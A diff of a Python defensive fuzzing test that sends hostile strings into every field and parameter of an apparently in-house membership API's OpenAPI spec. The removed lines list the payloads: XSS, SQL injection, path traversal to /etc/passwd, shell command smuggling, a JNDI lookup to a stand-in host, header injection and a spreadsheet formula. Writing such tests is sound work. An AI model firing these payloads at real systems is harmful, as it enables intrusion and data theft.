@@ -1,35 +1,53 @@
-"""Texts that mean something to some machine, in every field that takes text."""
+"""Every field, parameter and part of a path that the API's description has, filled with hostile texts."""
 
 import json
-import subprocess
+import re
 
 from access import consent, join
+from texts import TEXTS, percent
 
-TEXTS = [
-    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{head.title}}{{{body}}}", "${jndi:ldap://evil.example/x}",
-    "'; DROP TABLE members; --", "\" OR 1=1 --", "../../../../etc/passwd", "$(touch /tmp/owned)", "`id`", "|| ping evil.example",
-    "\r\nSet-Cookie: x=1", "a\nb", "a\u0000b", "\u202egnp.exe", "\u2028line", "\ufeffbom", "%00%0d%0a", "%s%s%s%n", "=cmd|' /C calc'!A0",
-    "\",\"points\":999999,\"x\":\"", "\\\",\\\"", "名" * 200, "𠮷" * 50, "e\u0301" * 25, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ud800", "null", "true",
-    "-1", "1e309", "NaN", "[]", "{}", " ", "\u3000", "/" * 64, "." * 80, "-" * 80, "P1-1", "477127567449", "13800138000",
-]
-
+# One decent value for each place in a path, so that the text beside it is what is judged.
+PLACES = {"entry": "P7-1", "request": "Q1-1", "id": "R1-1", "slug": "x", "voucher": "aaaa-bbbb-cccc"}
 
 def fields_of(document):
+    """Method, path, field and a decent body, for each field of each body."""
     for path, operations in document["paths"].items():
-        body = operations.get("post", {}).get("requestBody", {}).get("content", {}).get("application/json", {})
-        for field in body.get("schema", {}).get("properties", {}):
+        for method, operation in operations.items():
+            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {})
             example = next(iter(body.get("examples", {}).values()), {"value": {}})["value"]
-            yield path, field, example
+            for field in body.get("schema", {}).get("properties", {}):
+                yield method.upper(), path, field, example
+
+
+def parameters_of(document):
+    """Method, path and parameter, for each that stands in a path or behind it."""
+    for path, operations in document["paths"].items():
+        for method, operation in operations.items():
+            for parameter in operation.get("parameters", []):
+                if parameter.get("in") in ("query", "path"):
+                    yield method.upper(), path, parameter["name"], parameter["in"]
+
+
+def placed(path, number, places={}):
+    known = {**PLACES, "number": number, **places}
+    return re.sub(r"\{(\w+)\}", lambda name: known.get(name[1], "x"), path)
+
+
+def judge(answer, where):
+    status, headers, body = answer
+    assert status < 500, f"{where}: {status} {body[:200]}"
+    assert "x=1" not in (headers["Set-Cookie"] or ""), f"a header was injected by {where}"
+    return status < 300
 
 
 def injecting(club, wire):
-    """injection in every text field"""
-    number, cookie = join(club, wire)
+    """injection in every field of the API"""
+    number, _ = join(club, wire)
     document = json.loads(wire.ask("GET", "/api/v1/openapi.json")[2])
     tries = accepted = 0
     version = consent(club, wire)
     fields = list(fields_of(document))
-    for path, field, example in fields:
+    for method, path, field, example in fields:
         for text in TEXTS:
             # All the rest is in order, so that the text is what it is judged by.
             body = {**example}
@@ -38,27 +56,22 @@ def injecting(club, wire):
             if path.endswith("/points"):
                 body = {"action": "award", "points": 1, "source": "manual", "reason": "试攻击"}
             body[field] = text
-            filled = path.replace("{number}", number).replace("{slug}", "x")
-            for name, value in [("entry", "P7-1"), ("request", "Q1-1"), ("id", "R1-1")]:
-                filled = filled.replace("{" + name + "}", value)
-            status, headers, answer = wire.ask("POST", filled, body, token=club.tokens["manager"])
+            answer = wire.ask(method, placed(path, number), body, token=club.tokens["manager"])
             tries += 1
-            assert status < 500, f"{path} {field} {text!r}: {status} {answer[:200]}"
-            assert "x=1" not in (headers["Set-Cookie"] or ""), f"a header was injected by {path} {field}"
-            assert headers["Content-Type"] in (None, "application/json", "application/problem+json"), headers["Content-Type"]
-            if status < 300:
-                accepted += 1
-    for name in ["find", "after", "from", "limit", "member"]:
+            accepted += judge(answer, f"{method} {path} {field} {text!r}")
+            assert answer[1]["Content-Type"] in (None, "application/json", "application/problem+json"), answer[1]["Content-Type"]
+    parameters = list(parameters_of(document))
+    for method, path, name, place in parameters:
         for text in TEXTS:
-            query = "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
-            for path in ["/api/v1/members", "/api/v1/readings", f"/api/v1/members/{number}/points"]:
-                status, _, answer = wire.ask("GET", f"{path}?{name}={query}", token=club.tokens["auditor"])
-                tries += 1
-                assert status < 500, f"{path}?{name}={query}: {status}"
-    run = subprocess.run(
-        [club.executable, "ledger", "verify", "--store", f"{club.folder}/Store"], capture_output=True, text=True)
-    assert run.returncode == 0, f"the books no longer prove: {run.stdout}{run.stderr}"
-    return tries, f"{len(fields)} fields, {accepted} texts accepted as text; the books prove"
+            value = percent(text)
+            full = placed(path, number, {name: value}) if place == "path" else f"{placed(path, number)}?{name}={value}"
+            body = {} if method in ("POST", "PUT", "PATCH") else None
+            token = club.tokens["auditor" if method == "GET" else "manager"]
+            judge(wire.ask(method, full, body, token=token), f"{method} {full}")
+            tries += 1
+    club.prove()
+    return tries, (f"{len(fields)} fields, {accepted} texts accepted as text; "
+                   f"{len(parameters)} parameters; the books prove")
 
 
 def pages_escape(club, wire):
@@ -66,7 +79,7 @@ def pages_escape(club, wire):
     version = consent(club, wire)
     tries = 0
     for text in TEXTS:
-        encoded = "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
+        encoded = percent(text)
         form = f"name={encoded}&phone=13922223333&email=&consent={version}".encode()
         status, headers, answer = wire.ask(
             "POST", "/join", form, headers={"Origin": club.url, "Content-Type": "application/x-www-form-urlencoded"})
